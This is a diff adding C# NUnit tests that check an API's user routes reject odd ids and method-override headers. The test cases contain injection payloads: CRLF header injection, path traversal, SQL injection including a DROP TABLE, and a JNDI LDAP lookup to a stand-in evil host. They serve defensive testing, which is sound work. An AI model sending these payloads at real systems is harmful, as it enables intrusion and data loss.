@@ -55,6 +55,43 @@ public sealed class RoutingTests(string provider)
         Assert.That((answer.Status, answer.Detail), Is.EqualTo((404, "Usuario no encontrado")));
     }
 
+    [TestCase("%0d%0aSet-Cookie:%20a=b")]
+    [TestCase("0199aaaa-0000-7000-8000-000000000000%0d%0aLocation:%20https:%2F%2Fevil.example")]
+    [TestCase("%E5%98%8A%E5%98%8DSet-Cookie:%20a=b", TestName = "{m}(line break of two wide characters)")]
+    [TestCase("..%2f..%2fhealth%2flive")]
+    [TestCase("1%20OR%201=1")]
+    [TestCase("'%3B%20DROP%20TABLE%20Users%3B--")]
+    [TestCase("{0199aaaa-0000-7000-8000-000000000000}")]
+    [TestCase("$%7Bjndi:ldap:%2F%2Fevil.example%7D")]
+    public async Task Call_AboutAnOddId_ReturnsNotFoundAndNoHeaderOfItsOwn(string id)
+    {
+        foreach (var (method, body) in new[] { ("GET", null), ("PATCH", "{}"), ("DELETE", null) })
+        {
+            var answer = await admin.AnswerAsync(new HttpMethod(method), $"{TestUsers.Path}/{id}", body);
+
+            Assert.Multiple(() =>
+            {
+                Assert.That((answer.Status, answer.Detail), Is.EqualTo((404, "Usuario no encontrado")));
+                Assert.That(answer.Headers.Keys, Has.None.EqualTo("Set-Cookie").And.None.EqualTo("Location"));
+            });
+        }
+    }
+
+    [TestCase("X-HTTP-Method-Override", "")]
+    [TestCase("X-HTTP-Method", "")]
+    [TestCase("X-Method-Override", "")]
+    [TestCase("X-A", "?_method=DELETE&method=DELETE&X-HTTP-Method-Override=DELETE")]
+    public async Task Call_ThatNamesAnotherMethod_IsWhatItsOwnMethodSays(string header, string query)
+    {
+        using var person = await Person.CreateAsync(service, admin);
+
+        var read = await admin.AnswerAsync(HttpMethod.Get, person.Path + query, null, (header, "DELETE"));
+        var changed = await admin.AnswerAsync(HttpMethod.Patch, person.Path + query, "{}", (header, "DELETE"));
+        var after = await admin.GetAnswerAsync(person.Path);
+
+        Assert.That(new[] { read.Status, changed.Status, after.Status }, Is.All.EqualTo(200));
+    }
+
     [Test]
     public async Task Call_WithAHeaderThatIsNoUtf8_IsAnswered()
     {
@@ -76,6 +113,9 @@ public sealed class RoutingTests(string provider)
     [TestCase("GET", "/api/auth/change-password", "POST")]
     [TestCase("POST", "/api/auth/me", "GET")]
     [TestCase("PATCH", "/api/auth/users", "GET, POST")]
+    [TestCase("DELETE", "/api/auth/service-accounts", "GET, POST")]
+    [TestCase("PUT", "/api/auth/service-accounts/svc_1", "DELETE, GET, PATCH")]
+    [TestCase("GET", "/api/auth/service-accounts/svc_1/rotate", "POST")]
     [TestCase("PUT", "/api/auth/users/0199aaaa-0000-7000-8000-000000000000", "DELETE, GET, PATCH")]
     [TestCase("POST", "/api/auth/users/0199aaaa-0000-7000-8000-000000000000", "DELETE, GET, PATCH")]
     public async Task Call_WithAnotherMethod_ReturnsMethodNotAllowedAndNamesTheRightOnes(string method, string path, string allowed)
